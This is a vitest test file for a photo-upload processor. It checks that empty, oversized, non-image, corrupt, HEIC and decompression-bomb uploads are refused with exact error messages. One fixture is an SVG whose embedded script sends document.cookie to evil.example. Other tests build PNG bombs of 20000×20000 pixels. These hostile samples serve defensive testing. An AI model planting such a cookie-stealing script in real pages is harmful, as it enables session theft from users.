import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { MEDIA_LIMITS, MediaError, heicSupported, processUpload, type MediaErrorCode } from "./index.js";
import { SECRETS, jpegWithEverything, photoLike, pngBomb, pngBombHeaderOnly } from "./testing/fixtures.js";

const MESSAGES: Record<MediaErrorCode, string> = {
  empty: "The photo file is empty.",
  too_large: "The photo is larger than 15 MB.",
  unsupported_type: heicSupported() ? "The file is not a JPEG, PNG, WebP or HEIC photo." : "The file is not a JPEG, PNG or WebP photo.",
  too_many_pixels: "The photo has more than 40 megapixels.",
  corrupt: "The photo file is damaged or incomplete.",
};

/** Refused with `code` and its exact message (so no file name or metadata value in it), within `withinMs`. */
async function expectRefused(bytes: Buffer, code: MediaErrorCode, withinMs = 1000): Promise<MediaError> {
  const started = performance.now();
  const error = await processUpload(bytes).then(
    () => undefined,
    (e: unknown) => e,
  );
  const elapsed = performance.now() - started;
  expect(error).toBeInstanceOf(MediaError);
  const mediaError = error as MediaError;
  expect(mediaError.code).toBe(code);
  expect(mediaError.message).toBe(MESSAGES[code]);
  expect(elapsed).toBeLessThan(withinMs);
  return mediaError;
}

const SVG_WITH_SCRIPT =
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="500" height="500">' +
  '<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="500" height="500" fill="red"/></svg>';

describe("uploads refused", () => {
  it("an empty file", async () => {
    await expectRefused(Buffer.alloc(0), "empty");
  });

  it("a file over 15 MB, before looking at its content", async () => {
    const jpegStart = Buffer.from([0xff, 0xd8, 0xff, 0xe0]);
    await expectRefused(Buffer.concat([jpegStart, Buffer.alloc(MEDIA_LIMITS.maxBytes)]), "too_large");
    await expectRefused(Buffer.concat([Buffer.from(SVG_WITH_SCRIPT), Buffer.alloc(MEDIA_LIMITS.maxBytes)]), "too_large");
    // Exactly 15 MB is not over the limit: it gets to the content checks (and is no image).
    await expectRefused(Buffer.alloc(MEDIA_LIMITS.maxBytes), "unsupported_type");
  });

  it("a text file (whatever it was named)", async () => {
    await expectRefused(Buffer.from("Ini bukan foto, hanya catatan.\n", "utf8"), "unsupported_type");
  });

  it("an SVG with a script, and an SVG hidden behind JPEG magic bytes is never rendered as SVG", async () => {
    expect((await sharp(Buffer.from(SVG_WITH_SCRIPT)).metadata()).format).toBe("svg"); // libvips itself would load it
    await expectRefused(Buffer.from(SVG_WITH_SCRIPT), "unsupported_type");
    await expectRefused(Buffer.from(`  \n${SVG_WITH_SCRIPT}`), "unsupported_type");
    await expectRefused(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(SVG_WITH_SCRIPT)]), "corrupt");
  });

  it("GIF, TIFF and AVIF (libvips reads them, the store does not take them)", async () => {
    const picture = photoLike(200, 150);
    await expectRefused(await picture.clone().gif().toBuffer(), "unsupported_type");
    await expectRefused(await picture.clone().tiff().toBuffer(), "unsupported_type");
    await expectRefused(await picture.clone().avif({ effort: 0 }).toBuffer(), "unsupported_type");
  });

  it("a truncated JPEG (half a photo) and a damaged PNG", async () => {
    const photo = await jpegWithEverything(800, 600);
    await expectRefused(photo.subarray(0, photo.length >> 1), "corrupt");
    await expectRefused(photo.subarray(0, 200), "corrupt"); // not even a whole header
    await expectRefused(Buffer.from([0xff, 0xd8, 0xff]), "corrupt");
    const png = Buffer.from(await photoLike(300, 200).png().toBuffer());
    png.fill(0x55, png.length >> 1, (png.length >> 1) + 64); // scribbled-over image data
    await expectRefused(png, "corrupt");
  });

  it("but not a JPEG with a harmless glitch some phones write (sharp's default failOn would refuse it)", async () => {
    const photo = await photoLike(640, 480).jpeg().toBuffer();
    const afterApp0 = 4 + photo.readUInt16BE(4);
    const glitched = Buffer.concat([photo.subarray(0, afterApp0), Buffer.from([1, 2, 3]), photo.subarray(afterApp0)]);
    await expect(sharp(glitched, { failOn: "warning" }).raw().toBuffer()).rejects.toThrow(/extraneous bytes/);
    await expect(processUpload(glitched)).resolves.toMatchObject({ width: 400, height: 300 });
  });

  it("keeps metadata values out of the error (a corrupt photo whose EXIF names the maker)", async () => {
    const photo = await jpegWithEverything(800, 600);
    const error = await expectRefused(photo.subarray(0, photo.length - 2000), "corrupt");
    expect(JSON.stringify({ message: error.message, code: error.code })).not.toContain(SECRETS.artist);
  });

  it("a 20000×20000 PNG decompression bomb, from its header, quickly and without the memory to decode it", async () => {
    const bomb = pngBomb();
    expect(bomb.length).toBeLessThan(100_000);
    const metadata = await sharp(bomb, { limitInputPixels: false }).metadata();
    expect([metadata.width, metadata.height]).toEqual([20_000, 20_000]);
    const rssBefore = process.memoryUsage().rss;
    await expectRefused(bomb, "too_many_pixels", 500);
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(64 * 1024 * 1024);
  });

  it("an image whose header claims too many pixels, before its (garbage) data is ever read", async () => {
    // Were the data decoded first, this would be `corrupt`.
    await expectRefused(pngBombHeaderOnly(), "too_many_pixels", 500);
  });

  it("checks the pixel limit from the option, on width × height", async () => {
    const photo = await photoLike(100, 100).png().toBuffer();
    await expect(processUpload(photo, { maxPixels: 9_999 })).rejects.toMatchObject({ code: "too_many_pixels" });
    await expect(processUpload(photo, { maxPixels: 10_000 })).resolves.toMatchObject({ width: 100, height: 100 });
    await expect(processUpload(photo, { maxBytes: 512 * 1024 * 1024 })).resolves.toBeDefined();
    await expect(processUpload(photo, { maxBytes: 100 })).rejects.toMatchObject({ code: "too_large" });
    await expect(processUpload(photo, { maxPixels: 2_500_000, maxBytes: 1024 * 1024 + 1 })).resolves.toBeDefined();
    await expect(processUpload(await photoLike(2000, 2000).png().toBuffer(), { maxPixels: 2_500_000 })).rejects.toMatchObject({
      code: "too_many_pixels",
      message: "The photo has more than 2.5 megapixels.",
    });
  });

  it("HEIC: refused as unsupported where libvips cannot decode it, processed where it can", async () => {
    // The opening of an iPhone photo: an ftyp box with major brand heic, compatible mif1 and heic.
    const ftyp = Buffer.from([0, 0, 0, 24, ...Buffer.from("ftypheic"), 0, 0, 0, 0, ...Buffer.from("mif1heic")]);
    const heicLike = Buffer.concat([ftyp, Buffer.alloc(2000)]);
    if (!heicSupported()) {
      // Here (sharp's prebuilt libvips) HEIF is read for AVIF only.
      expect(sharp.format.heif.input.fileSuffix).not.toContain(".heic");
      await expectRefused(heicLike, "unsupported_type");
      return;
    }
    // A libvips with an HEVC decoder: the fake is corrupt, and a real HEIC (if it can also encode one) is processed.
    await expectRefused(heicLike, "corrupt");
    const real = await photoLike(900, 600)
      .heif({ compression: "hevc" })
      .toBuffer()
      .catch(() => undefined);
    if (real) expect((await processUpload(real)).variants.map((v) => v.width)).toEqual([400, 800]);
  });
});
